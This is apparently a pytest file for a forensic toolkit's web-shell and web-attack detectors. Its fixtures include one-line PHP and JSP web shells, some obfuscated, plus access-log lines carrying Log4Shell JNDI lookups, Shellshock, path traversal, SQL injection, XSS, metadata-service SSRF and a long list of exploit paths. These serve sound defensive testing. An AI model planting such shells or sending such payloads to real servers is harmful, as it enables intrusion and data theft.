"""Web shells and requests to them."""

from __future__ import annotations

import hashlib
import random
from datetime import UTC, datetime, timedelta

import pytest

from forensic_toolkit.folding import folded
from forensic_toolkit.readers import web_logs
from forensic_toolkit.readers.coverage import Artifact
from forensic_toolkit.readers.web_logs import Clock, decoded, moment
from forensic_toolkit.results import Event, Finding
from forensic_toolkit.rules import web_attacks, web_rules
from tests.toolkit.fake_tree import Builder


def test_web_shell_below_a_configured_root() -> None:
    builder = Builder().add("/data/site/a.php", b"<?php system($_GET['c']); ?>")
    assert web_rules.web_shells(builder.tree()) == {}
    builder.add("/etc/nginx/sites-enabled/site", b"server {\n  root /data/site;\n}\n")
    assert [finding.severity for finding in web_rules.web_shells(builder.tree()).values()] == ["critical"]


@pytest.mark.parametrize(
    "content",
    [
        '<?php system($_POST["x"]); ?>',
        "<?php @eval(base64_decode($_REQUEST['z'])); ?>",
        "<?php $c = $_GET['c']; echo shell_exec($c); ?>",
        "<?php $_GET['f']($_GET['a']); ?>",
        "<?php echo `$_GET[c]`; ?>",
        '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    ],
)
def test_web_shells(content: str) -> None:
    assert web_rules.what_it_does(content)


@pytest.mark.parametrize(
    "content",
    [
        "<?php echo htmlspecialchars($_GET['q']); ?>",
        "<?php exec('/usr/bin/convert a b'); $x = $_POST['y']; ?>",
        "<?php $page = $_GET['p']; include 'header.php'; ?>",
    ],
)
def test_ordinary_scripts(content: str) -> None:
    assert web_rules.what_it_does(content) is None


def test_padding_hides_no_web_shell() -> None:
    """ATT&CK T1027.001, Binary Padding: a file that is larger than what a tool looks at is looked at nevertheless."""
    shell, padding = b"<?php system($_GET['c']); ?>", b"/" * (2 << 20)
    builder = (
        Builder()
        .add("/etc/nginx/sites-enabled/site", b"server {\n  root /var/www;\n}\n")
        .add("/var/www/a.php", padding + shell)
    )
    builder.add("/var/www/b.php", b"<?php\n" + b"#\n" * (5 << 20) + shell)
    builder.add("/var/www/c.php", b"<?php\n" + b"#\n" * (5 << 20) + b"?>").add("/var/www/log.html", b" " * (9 << 20))
    builder.add("/var/www/photo.jpg", b"\xff\xd8" + bytes(3 << 20) + shell).add(
        "/var/www/d.jpg", b"\xff\xd8" + bytes(3 << 20)
    )
    tree = builder.tree()
    assert sorted(web_rules.web_shells(tree)) == ["/var/www/a.php", "/var/www/b.php", "/var/www/photo.jpg"]
    large = {finding.source: finding.severity for finding in web_rules.too_large(tree)}
    assert large == {"/var/www/b.php": "medium", "/var/www/c.php": "medium", "/var/www/log.html": "low"}


def test_requests_to_a_shell_and_attacks() -> None:
    line = '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "{}" 200 5 "-" "curl/8"\n'
    text = line.format("POST /up/x.php?a=1 HTTP/1.1") + line.format("GET /?q=../../../etc/passwd HTTP/1.1")
    text += line.format("GET /index.html HTTP/1.1") + "broken line\n"
    log = Artifact("web log", "access.log", len(text))
    items = list(web_rules.requests(text.split("\n"), artifact=log, shells={"/up/x.php": "/var/www/html/up/x.php"}))
    findings = [item for item in items if isinstance(item, Finding)]
    assert [(finding.severity, finding.technique) for finding in findings] == [
        ("critical", "T1505.003"),
        ("medium", "T1190"),
    ]
    assert sum(isinstance(item, Event) for item in items) == 3
    assert (log.lines, log.parsed) == (4, 3)
    assert log.shortfalls() == ["3 of 4 lines were parsed"]
    assert findings[0].time == datetime(2026, 3, 1, 9, tzinfo=UTC)


def test_urls_of_files_below_web_roots() -> None:
    urls = web_rules.urls_of(["/var/www/html/a/x.php", "/srv/http/y.php"], served=("/var/www", "/srv/http"))
    assert urls["/a/x.php"] == "/var/www/html/a/x.php"
    assert urls["/y.php"] == "/srv/http/y.php"


WHEN = "[01/Mar/2026:10:00:00 +0000]"


@pytest.mark.parametrize(
    ("line", "kind", "technique"),
    [
        (
            f'203.0.113.9 - - {WHEN} "GET / HTTP/1.1" 200 5 "-" "${{jndi:ldap://198.51.100.7/a}}"',
            "Lookup injection",
            "T1190",
        ),
        (
            f'203.0.113.9 - - {WHEN} "GET / HTTP/1.1" 200 5 "${{${{lower:j}}ndi:ldap://x/a}}" "x"',
            "Lookup injection",
            "T1190",
        ),
        (
            f'203.0.113.9 - - {WHEN} "GET /c HTTP/1.1" 200 5 "-" "() {{ :;}}; /bin/bash -c id"',
            "Shell function in a header",
            "T1190",
        ),
        (
            f'203.0.113.9 - - {WHEN} "GET /a?f=%252e%252e%252f%252e%252e%252fetc%252fhosts HTTP/1.1" 404 5',
            "Path out of the web root",
            "T1190",
        ),
        (
            f'203.0.113.9 - - {WHEN} "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 5 "-" "x"',
            "Exploit of a known weakness",
            "T1190",
        ),
        (
            f'203.0.113.9 - - {WHEN} "GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call HTTP/1.1" 404 5 "-" "x"',
            "Exploit of a known weakness",
            "T1190",
        ),
        (
            f'203.0.113.9 - - {WHEN} "GET /fetch?u=http://169.254.169.254/latest/meta-data/ HTTP/1.1" 200 5 "-" "x"',
            "Metadata service asked for through a request",
            "T1552.005",
        ),
        (
            f'shop.example.com:443 203.0.113.9 - - {WHEN} "GET /.env HTTP/1.1" 404 5 "-" "x"',
            "Vulnerability scan",
            "T1595.002",
        ),
        (
            '{"time_iso8601":"2026-03-01T10:00:00+00:00","remote_addr":"203.0.113.9","request_method":"GET","request_uri":"/a?q=1 union select 2","status":"200"}',
            "SQL in a request",
            "T1190",
        ),
        (
            '{"ts":1772359200.5,"request":{"remote_ip":"203.0.113.9","method":"GET","uri":"/","headers":{"User-Agent":["${jndi:ldap://x}"]}},"status":200}',
            "Lookup injection",
            "T1190",
        ),
        (
            '{"StartUTC":"2026-03-01T10:00:00.5Z","ClientHost":"203.0.113.9","RequestMethod":"GET","RequestPath":"/.git/config","DownstreamStatus":404}',
            "Vulnerability scan",
            "T1595.002",
        ),
    ],
)
def test_attacks_in_any_part_of_a_request_and_any_form_of_log(line: str, kind: str, technique: str) -> None:
    artifact = Artifact("web log", "/var/log/nginx/access.log", len(line))
    said = [item for item in web_rules.requests([line], artifact=artifact, shells={}) if isinstance(item, Finding)]
    assert [(item.title, item.technique) for item in said] == [(f"{kind} from 203.0.113.9", technique)]
    assert (artifact.lines, artifact.parsed) == (1, 1)
    assert said[0].time is not None and said[0].time.isoformat().startswith("2026-03-01T10:00:00")


def test_ordinary_requests_are_left_alone() -> None:
    lines = [
        f'203.0.113.9 - frank {WHEN} "GET /search?q=union+jack HTTP/2.0" 200 5 "https://example.com/?a=b&c=d" "Mozilla/5.0 (X11; Linux x86_64)"',
        f'203.0.113.9 - - {WHEN} "POST /api/v1/run;v=2?curl=1 HTTP/1.1" 201 5 "-" "curl/8.5.0"',
        f'203.0.113.9 - - {WHEN} "GET /price%20list/100%25.pdf HTTP/1.1" 200 5 "-" "x"',
    ]
    artifact = Artifact("web log", "a", 1)
    assert [i for i in web_rules.requests(lines, artifact=artifact, shells={}) if isinstance(i, Finding)] == []
    assert artifact.parsed == 3


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("/q?page='\\\"()%26%25<zzx><ScRiPt%20>f(9347)</ScRiPt>", "Script in a request"),
        ("/index.php<img%20src=xyz%20OnErRor=f(9846)>/component", "Script in a request"),
        ("/s?q=%22%20onmouseover%3Dalert(1)%20x", "Script in a request"),
        ("/s?next=javascript:alert(document.domain)", "Script in a request"),
        ("/index.php/;print(md5(some_test));/content", "Code in a request"),
        ("/security.php?test=%24{%40print(md5(some_test))}%5c", "Code in a request"),
        ("/p?x=<?php%20phpinfo();", "Code in a request"),
        ("/p?name=${7*191}", "Code in a request"),
        ("/i?p=http://203.0.113.7/fit.txt%3F", "File of another server named in a request"),
        ("/r?to=a%0d%0aSet-Cookie:%20a=b", "Header in a request"),
        ("/a?id=1+or+1=1", "SQL in a request"),
        ("/a?id=1%27%20AND%20%27a%27=%27a", "SQL in a request"),
        ("/a?id=(select%20pass%20from%20users)", "SQL in a request"),
        ("/a?id=2%20order%20by%209--", "SQL in a request"),
        ("/a?id=-1%20or%201=(select/**/1)", None),
        ("/search?q=order+by+phone&from=select+shops", None),
        ("/search?q=salt+and+pepper+or+sugar", None),
        ("/login?next=https://shop.example.com/cart.php?id=3", None),
        ("/share?u=https%3A%2F%2Fexample.com%2Fphoto.jpg", None),
        ("/search?q=a+%3C+b+and+c+%3E+d", None),
        ("/docs/print(1).pdf", None),
        ("/javascript:void(0)", None),
    ],
)
def test_what_scanners_of_web_applications_send(target: str, kind: str | None) -> None:
    """The kinds that three scanners left in public logs of a test site (ocatak/apache-http-logs), and what looks like them."""
    said = web_attacks.suspicious(target)
    assert (said and said[0]) == kind


@pytest.mark.parametrize(
    "agent",
    ["w3af.org", "sqlmap/1.7#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; x)"],
)
def test_scanners_that_say_who_they_are(agent: str) -> None:
    said = web_attacks.suspicious("/index.php", "-", agent)
    assert said is not None and said[1] == "T1595.002"
    assert web_attacks.suspicious("/article/sqlmap-and-nikto") is None, "a page about them is none"
    line = f'203.0.113.9 - - {WHEN} "GET / HTTP/1.1" 200 5 "-" "{agent}"'
    (found,) = [
        i for i in web_rules.requests([line], artifact=Artifact("web log", "a", 1), shells={}) if isinstance(i, Finding)
    ]
    assert found.severity == "low", "they ask every public server for its first page"


@pytest.mark.parametrize(
    "content",
    [
        '<?php $f = base64_decode("c3lzdGVt"); $f($_GET["c"]);',
        '<?php $a = strrev("metsys"); echo @$a($cmd);',
        '<?php array_map("system", array($_REQUEST["x"]));',
        '<?php include $_GET["page"];',
    ],
)
def test_web_shells_by_what_they_do(content: str) -> None:
    assert web_rules.what_it_does(content)


def test_libraries_that_decode_are_no_web_shells() -> None:
    assert web_rules.what_it_does("<?php require_once($_SERVER['DOCUMENT_ROOT'].'/inc/db.php');") is None
    assert web_rules.what_it_does("<?php $data = base64_decode($token); if (!$data) { return strlen($data); }") is None


def asked(names: list[str], *, seconds: float, agent: str = "Mozilla/5.0") -> list[str]:
    """Requests for files that are not there, one after the other."""
    start = datetime(2026, 3, 1, 9, tzinfo=UTC)
    when = [start + timedelta(seconds=number * seconds) for number in range(len(names))]
    return [
        f'198.51.100.7 - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "GET /{name} HTTP/1.1" 404 5 "-" "{agent}"'
        for name, moment in zip(names, when, strict=True)
    ]


@pytest.mark.parametrize(
    ("different", "seconds", "agent", "is_list"),
    [
        (40, 0.2, "Mozilla/5.0", True),
        (40, 60, "gobuster/3.6", True),
        (40, 60, "Mozilla/5.0 (compatible; crawler)", False),
        (3, 0.2, "Mozilla/5.0", False),
    ],
)
def test_a_list_of_names_is_tried(different: int, seconds: float, agent: str, is_list: bool) -> None:
    names = [f"folder{number % different}" for number in range(40)]
    lines = asked(names, seconds=seconds, agent=agent)
    items = web_rules.requests(lines[::-1], artifact=Artifact("web log", "access.log", 1), shells={})
    lists = [item for item in items if isinstance(item, Finding) and item.technique == "T1595.003"]
    assert [(item.count, item.data["paths"]) for item in lists] == ([(40, different)] if is_list else [])
    assert all(item.time == datetime(2026, 3, 1, 9, tzinfo=UTC) for item in lists)


WORDS = (
    "/wp-login.php", "/.env", "/.git/config", "/index.html", "/api/v1/users", "/actuator/env", "/cgi-bin/luci", "/solr/admin/config", "/boaform/x",
    "/HNAP1", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "?s=/index/think/app/invokefunction&function=call_user_func_array&vars=1", "?x=1",
    "?file=/etc/passwd", "?f=../../etc/shadow", "?u=http://169.254.169.254/latest", "?id=1+union+select+1", "?id=1+union+all+select+2", "?q=a'or'1'='1",
    "?c=sleep5", "?c=sleep(5)", "?c=pg_sleep(9)", "?c=waitfor+delay+'0:0:5'", "?cmd=wget+x", "?cmd=/bin/id", "?a=1&wget+http", "?a=1&sh+x", "?a=1;id",
    "?a=`id`", "?a=%24%7bjndi:ldap://x%7d", "?a=%2524%257bjndi:x%257d", "/owa/auth/x.aspx?1", "/tmui/login.jsp/..;/x", "/manager/text/deploy", "/manager/html",
    "/remote/fgt_lang?lang=x", "/druid/index.html", "/autodiscover/autodiscover.json?@x", "?x=information_schema.tables", "?x=php://input", "/phpMyAdmin/",
    "/xmlrpc.php", "/server-status", "/static/app.8f3a.js", "?q=reunion+sleepy+hollow", "/plugins/servlet/x", "/rest/tinymce/1", "/pages/xcreatepage", "/vpns/../x",
    "/_ignition/execute-solution", "?class.module.classLoader=1", "?x=ognl.Ognl", "/wls-wsat/x", "/_async/AsyncResponseService", "/setup.cgi?next_file=x",
    "?id=1+or+1=1", "?id=2+AND+7=7--", "?q=salt+and+pepper", "?x=1+into+outfile+2", "?n=<script>a", "?n=%22onload=f(1)", "?u=http://a.example/x.txt?", "?a=';print(md5(1))",
    "?allow_url_include=1", "/api/jsonws/invoke", "/dana-na/../x", "?x=benchmark(1)", "?x=extractvalue(1)", "?x=xp_cmdshell", "/GponForm/x", "/phpinfo", "/proc/self/environ",
)  # fmt: skip


def test_what_is_looked_at_closely_changes_nothing_in_what_is_found() -> None:
    dice = random.Random(3)
    targets = [*WORDS, *("".join(dice.sample(WORDS, dice.randint(2, 4))) for _ in range(4000))]
    targets += [target.upper() for target in targets[:500]]
    found = 0
    for target in targets:
        rules = (rule for rule in web_attacks._ATTACKS if rule[0] not in web_attacks.ONLY_HEADERS)
        wanted = next((rule for rule in rules if rule[2].search(decoded(target))), None)
        assert web_attacks.suspicious(target) == wanted, target
        found += wanted is not None
    assert found > 1000


def test_an_attack_in_a_header_says_more_than_a_scanned_path() -> None:
    said = web_attacks.suspicious("/.env", "-", "${jndi:ldap://198.51.100.7/a}")
    assert said is not None and said[0] == "Lookup injection"
    assert (web_attacks.suspicious("/.env", "-", "curl/8") or ("",))[0] == "Vulnerability scan"
    assert web_attacks.suspicious("/a", "https://example.org/?q=1", "Mozilla/5.0 (X11; Linux x86_64)") is None


@pytest.mark.parametrize(
    "text", ["01/Mar/2026:10:00:00 +0100", "29/Feb/2024:23:59:60 -0530", "31/Dec/2026:00:00:00 +0000", "2026-03-01T10:00:00Z", "32/Mar/2026:10:00:00 +0000",
             "01/Xxx/2026:10:00:00 +0000", "01/Mar/2026:25:00:00 +0000", "01-Mar-2026:10:00:00 +0100", "", "x" * 26]
)  # fmt: skip
def test_the_fast_clock_says_what_the_slow_one_says(text: str) -> None:
    slow = moment(text)
    fast = Clock().seconds(text)
    if text.endswith("-0530"):
        assert fast == datetime(2024, 3, 1, 5, 30, tzinfo=UTC).timestamp() and slow is None, (
            "a leap second is the next minute"
        )
    else:
        assert fast == (slow.timestamp() if slow else None)


LINES = (
    '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "curl/8"',
    '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5',
    'web1:443 198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "curl/8"',
    '198.51.100.7 - kim lee [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "curl/8" 0.02',
    r'198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "x\"${jndi:ldap://198.51.100.9}"',
    r'198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a\" HTTP/1.1" 404 - "\x22" "-"',
    'fe80::1 - kim [01/Mar/2026:10:00:00 +0100] "POST /a" 201 - "https://x.example/[1]" "a b [c] d"',
    '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "curl/8" "203.0.113.5" rt=0.1',
)


@pytest.mark.parametrize("line", LINES)
def test_the_common_form_of_a_line_is_read_as_the_whole_pattern_reads_it(line: str) -> None:
    match = web_logs._LINE.match(line)
    assert match is not None
    assert web_logs.parts(line) == match.group(
        "address", "user", "time", "method", "target", "status", "referer", "agent"
    )


def test_what_is_no_request_is_a_line_all_the_same() -> None:
    """A scanner that speaks TLS to a plain port, a greeting, nothing: forms of two public servers' logs."""
    lines = [
        r'web.example:80 192.0.2.3 - - [26/May/2015:08:11:14 +0200] "\x16\x03\x01" 400 0 "-" "-"',
        '192.0.2.4 - - [10/Sep/2016:05:07:38 +0000] "Hello" 400 166 "-" "-"',
        '192.0.2.5 - - [10/Sep/2016:05:07:39 +0000] "-" 408 - "-" "-"',
        '192.0.2.5 - - [10/Sep/2016:05:07:40 +0000] "" 400 0 "-" "-"',
        '192.0.2.6 - - [10/Sep/2016:05:07:41 +0000] "${jndi:ldap://198.51.100.7/a} x" 400 0 "-" "-"',
    ]
    artifact = Artifact("web log", "/var/log/nginx/access.log", 1)
    said = list(web_rules.requests(lines, artifact=artifact, shells={}))
    assert (artifact.lines, artifact.parsed) == (5, 5)
    assert [item.title for item in said if isinstance(item, Finding)] == ["Lookup injection from 192.0.2.6"]


def test_texts_show_code_and_packaged_scripts_are_said_without_alarm() -> None:
    example = b"Installation\n============\n<?php $CONF['a'] = 'b'; ?>\n"
    shell = b"<?php system($_GET['x']);"
    digest = hashlib.md5(shell, usedforsecurity=False).hexdigest()
    builder = Builder().add("/var/www/html/INSTALL.TXT", example).add("/var/www/html/a.txt", b"\n<?php echo 1;")
    builder.add("/etc/nginx/nginx.conf", b"root /var/www/html;\n")
    builder.add("/var/lib/dpkg/status", b"Package: p\nStatus: install ok installed\nVersion: 1\n")
    builder.add("/var/lib/dpkg/info/p.list", b"/.\n/var/www/html/p.php\n/var/www/html/q.php\n")
    builder.add(
        "/var/lib/dpkg/info/p.md5sums", f"{digest}  var/www/html/p.php\n{digest}  var/www/html/q.php\n".encode()
    )
    builder.add("/var/www/html/p.php", shell).add("/var/www/html/q.php", shell + b"#")
    found = {path: finding.severity for path, finding in web_rules.web_shells(builder.tree()).items()}
    assert found == {
        "/var/www/html/a.txt": "critical",
        "/var/www/html/p.php": "info",
        "/var/www/html/q.php": "critical",
    }


def test_the_uses_of_a_shell_from_one_address_are_one_finding() -> None:
    lines = [
        f'192.0.2.4 - - [10/Sep/2016:05:07:{n:02} +0000] "GET /a.php?c=id{n} HTTP/1.1" 200 166 "-" "-"'
        for n in range(50)
    ]
    said = web_rules.requests(
        lines, artifact=Artifact("web log", "/var/log/nginx/access.log", 1), shells={"/a.php": "/var/www/html/a.php"}
    )
    (one,) = folded([item for item in said if isinstance(item, Finding)])
    assert (one.count, one.severity) == (50, "critical")
